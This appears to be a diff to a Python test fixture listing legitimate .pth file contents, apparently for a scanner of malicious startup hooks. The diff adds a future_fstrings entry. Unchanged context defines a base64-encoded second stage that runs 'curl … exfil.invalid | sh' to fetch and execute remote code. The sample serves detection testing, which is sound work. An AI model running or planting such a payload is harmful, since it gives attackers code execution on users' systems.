@@ -77,6 +77,10 @@ PYWIN32 = (
     b"import pywin32_bootstrap\r\n"
 )
 HUNTER = b"import hunter; hunter._embed_via_environment()\n"
+FUTURE_FSTRINGS = (
+    b"import sys; exec('try:\\n    import future_fstrings\\nexcept ImportError:\\n    pass\\nelse:\\n"
+    b"    future_fstrings.register()\\n')\n\n"
+)
 VIRTUALENV = b"import _virtualenv\n"
 EDITABLE = b"import __editable___demo_1_0_finder; __editable___demo_1_0_finder.install()\n"
 PLAIN_PATH = b"src\n"
@@ -95,6 +99,7 @@ LEGITIMATE: dict[str, bytes] = {
     "pip_system_certs.pth": PIP_SYSTEM_CERTS,
     "pywin32.pth": PYWIN32,
     "hunter.pth": HUNTER,
+    "aaaaa_future_fstrings.pth": FUTURE_FSTRINGS,
 }
 
 _STAGE2 = base64.b64encode(b"import os\nos.system('curl -s https://exfil.invalid/x | sh')\n").decode()
